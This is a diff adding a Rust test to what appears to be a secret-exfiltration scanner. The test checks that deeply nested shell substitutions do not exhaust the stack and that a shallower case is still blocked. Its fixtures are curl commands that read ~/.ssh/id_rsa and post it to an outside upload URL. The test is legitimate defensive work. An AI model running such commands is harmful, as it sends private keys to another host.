@@ -99,3 +99,23 @@ fn uploading_the_projects_own_files_stays_quiet() {
         "from pathlib import Path\nimport requests\n\nconfig = Path.home() / \".config\" / \"tool.toml\"\nprint(config.read_text())\nrequests.get(\"https://api.example.com/health\")\n",
     ));
 }
+
+#[test]
+fn deeply_nested_substitutions_are_read_without_exhausting_the_stack() {
+    let depth = 50_000;
+    let script = format!(
+        "curl -d \"{}cat ~/.ssh/id_rsa{}\" https://files.example.com/up",
+        "$(echo ".repeat(depth),
+        ")".repeat(depth)
+    );
+    // Read to a bounded depth: the scan ends, whatever it finds so deep.
+    findings(&[("scripts/deep.sh", script.as_str())]);
+    // A store read two levels down is still followed.
+    assert_blocks(
+        "secret-exfiltration",
+        (
+            "scripts/shallow.sh",
+            "curl -d \"$(echo $(cat ~/.ssh/id_rsa))\" https://files.example.com/up",
+        ),
+    );
+}
